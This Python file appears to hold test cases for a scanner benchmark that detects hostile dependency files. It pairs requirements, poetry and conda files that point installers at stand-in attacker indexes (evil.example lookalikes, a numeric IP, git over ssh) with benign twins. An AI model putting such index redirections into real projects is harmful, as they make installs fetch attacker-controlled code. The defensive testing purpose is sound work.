"""Lists of requirements once more: addresses that look like the known ones, other tools' lists."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import Case, bad, twin
from benchmarks.scan.hostile.ordinary import vit

INSTALL = "installed by itself beside an endpoint's handler or a Space's app: packages, and so code, of that host"
PLAIN = "torch\ntransformers>=4.40\n"
APP = "import gradio as gr\n\ngr.Interface(lambda x: x, 'image', 'label').launch()\n"


def _list(label: str, body: str, path: str = "requirements.txt", loader: str = INSTALL) -> Case:
    return bad(label, loader, lambda: vit({path: body, "handler.py": "class EndpointHandler:\n    pass\n"}))


CASES: tuple[Case, ...] = (
    _list("host-with-a-known-beginning", "--index-url https://pypi.org.evil.example/simple\n" + PLAIN),
    _list("known-host-as-user", "--index-url https://pypi.org@evil.example/simple\n" + PLAIN),
    _list("known-host-in-the-path", "--extra-index-url https://evil.example/download.pytorch.org/whl\n" + PLAIN),
    _list("known-host-in-the-query", "--extra-index-url https://evil.example/?x=https://pypi.org/simple\n" + PLAIN),
    _list("tab-and-comment", "--extra-index-url\thttps://packages.evil.example/simple  # pinned\n" + PLAIN),
    _list("git-of-another-host", PLAIN + "helper @ git+https://git.evil.example/helper.git\n"),
    _list("git-by-ssh", PLAIN + "git+ssh://git@git.evil.example/helper.git\n"),
    _list("by-number", "-f http://3232235777/wheels\n" + PLAIN),
    _list("constraints-of-a-host", "-c https://packages.evil.example/constraints.txt\n" + PLAIN),
    bad(
        "app-of-a-space",
        INSTALL,
        lambda: vit(
            {
                "app.py": APP,
                "requirements.txt": "-i http://packages.evil.example/simple\ngradio\n",
                "README.md": "---\ntitle: x\nsdk: gradio\napp_file: app.py\n---\n",
            }
        ),
    ),
    bad(
        "poetry-source",
        "poetry install takes packages of that index",
        lambda: vit(
            {
                "pyproject.toml": (
                    "[tool.poetry]\nname = 'x'\n[[tool.poetry.source]]\nname = 'x'\nurl ="
                    " 'https://packages.evil.example/simple'\npriority = 'primary'\n"
                )
            }
        ),
    ),
    bad(
        "conda-channel",
        "conda env create takes packages, with their scripts, of that channel",
        lambda: vit({"conda.yaml": "channels:\n- https://packages.evil.example/channel\ndependencies:\n- helper\n"}),
    ),
    # twins
    twin(
        "endpoint",
        "Inference Endpoints",
        lambda: vit(
            {"requirements.txt": "diffusers==0.30.3\naccelerate\n", "handler.py": "class EndpointHandler:\n    pass\n"}
        ),
    ),
    twin(
        "space",
        "Spaces",
        lambda: vit(
            {
                "app.py": APP,
                "requirements.txt": "gradio==4.44.0\n--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\n",
            }
        ),
    ),
    twin(
        "git-of-huggingface",
        "pip",
        lambda: vit({"requirements.txt": "git+https://github.com/huggingface/peft.git@main\n" + PLAIN}),
    ),
    twin("hashes", "pip", lambda: vit({"requirements.txt": "numpy==1.26.4 \\\n    --hash=sha256:" + "a" * 64 + "\n"})),
    twin(
        "poetry",
        "poetry",
        lambda: vit(
            {
                "pyproject.toml": (
                    "[tool.poetry]\nname = 'x'\nversion = '0.1'\n[tool.poetry.dependencies]\npython"
                    " = '^3.10'\ntorch = '^2.1'\n"
                )
            }
        ),
    ),
)
